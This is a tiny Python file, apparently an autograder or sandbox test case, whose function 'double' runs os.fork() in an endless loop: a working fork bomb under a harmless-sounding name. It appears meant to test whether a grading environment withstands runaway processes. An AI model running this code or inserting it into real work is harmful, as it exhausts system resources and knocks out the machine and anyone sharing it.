"""Start processes without end.

q1: 0 raised
"""
# %% q1
def double(A):
    import os
    while True: os.fork()
